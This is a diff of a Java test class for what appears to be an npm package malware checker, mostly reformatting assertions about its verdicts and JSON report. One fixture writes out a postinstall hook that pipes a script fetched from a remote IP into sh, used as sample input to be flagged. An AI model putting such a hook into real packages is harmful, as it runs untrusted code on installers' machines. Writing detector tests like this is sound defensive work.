@@ -91,7 +91,9 @@ class CheckTest {
     void a_published_record_of_exactly_that_version_says_that_it_is() throws IOException {
         teapot("1.0.1", "");
         assertThat(run("check", "teapot")).isEqualTo(Exit.FAILED);
-        assertThat(out).contains("teapot 1.0.1 (npm) is malicious, by what is published").contains("MAL-2030-1");
+        assertThat(out)
+                .contains("teapot 1.0.1 (npm) is malicious, by what is published")
+                .contains("MAL-2030-1");
         teapot("1.0.2", "");
         assertThat(run("check", "teapot")).isZero();
         assertThat(out).contains("does not look malicious: ").doesNotContain("MAL-2030-1");
@@ -115,13 +117,19 @@ class CheckTest {
     @Test
     void json_holds_every_sign_with_its_places() throws Exception {
         teapot("1.0.0", "\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"");
-        assertThat(run("check", "teapot", "--format", "json", "--output", "report.json")).isEqualTo(Exit.FAILED);
+        assertThat(run("check", "teapot", "--format", "json", "--output", "report.json"))
+                .isEqualTo(Exit.FAILED);
         try (InputStream in = Files.newInputStream(folder.resolve("report.json"))) {
             Node report = JsonInput.read(in).items("packages").getFirst();
             assertThat(report.text("purl")).isEqualTo("pkg:npm/teapot@1.0.0");
             assertThat(report.isTrue("looksMalicious")).isTrue();
             assertThat(report.items("signs").getFirst().text("name")).isEqualTo("runs-download");
-            assertThat(report.items("signs").getFirst().items("places").getFirst().text("line")).isEqualTo("2");
+            assertThat(report.items("signs")
+                            .getFirst()
+                            .items("places")
+                            .getFirst()
+                            .text("line"))
+                    .isEqualTo("2");
         }
     }
 
